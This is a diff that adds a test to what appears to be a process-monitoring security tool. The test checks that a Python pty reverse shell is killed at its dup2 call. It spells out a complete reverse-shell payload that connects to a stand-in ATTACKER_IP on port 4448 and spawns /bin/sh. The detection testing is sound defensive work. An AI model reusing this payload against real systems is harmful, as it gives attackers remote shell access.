@@ -171,3 +171,18 @@ def test_exec_of_a_nameless_file_is_alerted_and_killed(watched, attack, tmp_path
     assert killed.returncode == -9
     execs = [e for e in killed.of(model.ExecEvent, pid=killed.pid) if e.argv[:1] == ("payload",)]
     assert len(execs) == 1 and execs[0].killed
+
+
+def test_python_pty_reverse_shell_killed_at_the_dup(watched, py, lab):
+    """The interpreter keeps the socket and gives the shell a pty: the shell's stdio is no
+    socket, so the kill comes at the interpreter's own dup2 of the socket onto its stdin."""
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4448)
+    code = (f"import os, pty, socket\ns = socket.create_connection(({ATTACKER_IP!r}, 4448))\n"
+            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
+            "pty.spawn('/bin/sh')\n")
+    run = watched.run(in_container(lab, [py, "-c", code]), kill_policy=SHELL_KILL)
+    assert attacker.result() == {"connected": True, "received": 0}
+    assert run.returncode == -9
+    killed = [d for d in run.of(model.DupEvent) if d.killed]
+    assert len(killed) == 1 and killed[0].newfd == 0 and killed[0].pid == run.pid
+    assert not run.of(model.ExecEvent, filename="/bin/sh")
